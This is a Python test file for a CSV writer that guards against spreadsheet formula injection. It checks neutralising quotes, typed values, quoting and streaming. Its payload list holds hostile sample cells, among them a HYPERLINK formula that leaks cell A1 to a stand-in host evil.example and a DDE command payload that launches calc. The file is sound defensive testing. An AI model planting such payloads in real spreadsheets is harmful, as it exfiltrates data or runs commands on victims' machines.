"""The one CSV writer: no cell a spreadsheet would evaluate, typed numbers kept as numbers,
RFC 4180 framing, and text that reads back as written (after the neutralising quote)."""

import csv
import io
import uuid
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from shared.spreadsheets import BOM, FORMULA_STARTS, cell_text, csv_stream, csv_text, is_formula_like

# Every character the rule names, ASCII and the full-width and small forms.
DANGEROUS_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n",
                    "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u2212"]
PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1",
            "\r=1", "\n=1", "=1+1", "\uff1d1+1", "\uff0bcmd", "\uff0d1", "\uff20SUM(1)", "-5", "+5", "-",
            # once trimmed, or with quotes or invisible characters stripped, these start a formula too
            " =1+1", "   @SUM(1)", "\u3000=1", "\xa0=1", '"=1+1"', "'=1+1", "\u200b=1", "\ufeff=1", '" =1"',
            "\x00=1", "\x1f-1"]
PLAIN = ["hello", "ana@example.com", "a=b", "1-2", "Müller, Zoë", "日本語のメッセージ", "", "x\n=1+1",
         'she said "hi"', "comma, inside", "3.14", "1e5", "#1", "(=1)", "|pipe"]


def read_back(document: str) -> list[list[str]]:
    assert document.startswith(BOM)
    return list(csv.reader(io.StringIO(document.removeprefix(BOM), newline="")))


def test_the_rule_names_every_dangerous_first_character() -> None:
    assert set(DANGEROUS_STARTS) == FORMULA_STARTS
    for start in DANGEROUS_STARTS:
        assert cell_text(start + "1") == "'" + start + "1", repr(start)
        assert cell_text(" " + start + "=1").startswith("'"), repr(start)  # blanks are skipped, then a formula


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_neutralised_and_reads_back_with_its_quote(payload: str) -> None:
    assert is_formula_like(payload)
    rows = read_back(csv_text(["value"], [[payload]]))
    assert rows == [["value"], ["'" + payload]]  # the text is all there, after the quote


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_as_it_is(text: str) -> None:  # the allowed twin
    assert not is_formula_like(text)
    assert read_back(csv_text(["value"], [[text]])) == [["value"], [text]]


@pytest.mark.parametrize(("value", "written"), [
    (-500, "-500"), (0, "0"), (42, "42"), (Decimal("-12.50"), "-12.50"), (-1.5, "-1.5"), (10**20, str(10**20)),
    (None, ""), (True, "true"), (False, "false"),
    (datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC), "2025-01-02T03:04:05+00:00"),
    (uuid.UUID(int=1), "00000000-0000-0000-0000-000000000001"),
    # numbers that are not numbers are text, and text starting with '-' is neutralised
    (float("-inf"), "'-inf"), (Decimal("-Infinity"), "'-Infinity"), (float("nan"), "nan"),
])
def test_typed_values(value: object, written: str) -> None:
    assert cell_text(value) == written


def test_a_typed_negative_number_stays_a_number_but_the_same_text_does_not() -> None:
    assert read_back(csv_text(["amount", "typed"], [[-5, "-5"]]))[1] == ["-5", "'-5"]


def test_every_cell_is_quoted_and_lines_end_with_crlf() -> None:
    document = csv_text(["a", "b", "c"], [[1, None, 'x "y", z'], ["line\nbreak", -2, "=1"]])
    assert document == (BOM + '"a","b","c"\r\n'
                        '"1","","x ""y"", z"\r\n'
                        '"line\nbreak","-2","\'=1"\r\n')
    assert read_back(document) == [["a", "b", "c"], ["1", "", 'x "y", z'], ["line\nbreak", "-2", "'=1"]]


def test_the_header_goes_through_the_same_rule() -> None:
    assert read_back(csv_text(["=name", "ok"], []))[0] == ["'=name", "ok"]


def test_non_ascii_survives_utf8_with_a_byte_order_mark() -> None:
    document = csv_text(["name"], [["Zoë Müller"], ["東京"], ["😀"]])
    raw = document.encode()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))) == \
        [["name"], ["Zoë Müller"], ["東京"], ["😀"]]


async def test_the_stream_is_the_same_document_in_chunks() -> None:
    rows = [["=1", -3, "plain"], ["@x", Decimal("2.5"), None], ["-1+1", 0, "ok"]]

    async def batches():  # type: ignore[no-untyped-def]
        yield rows[:2]
        yield rows[2:]

    chunks = [chunk async for chunk in csv_stream(["a", "b", "c"], batches())]
    assert len(chunks) == 3
    assert b"".join(chunks).decode() == csv_text(["a", "b", "c"], rows)
    assert read_back(b"".join(chunks).decode())[1:] == [["'=1", "-3", "plain"], ["'@x", "2.5", ""],
                                                        ["'-1+1", "0", "ok"]]
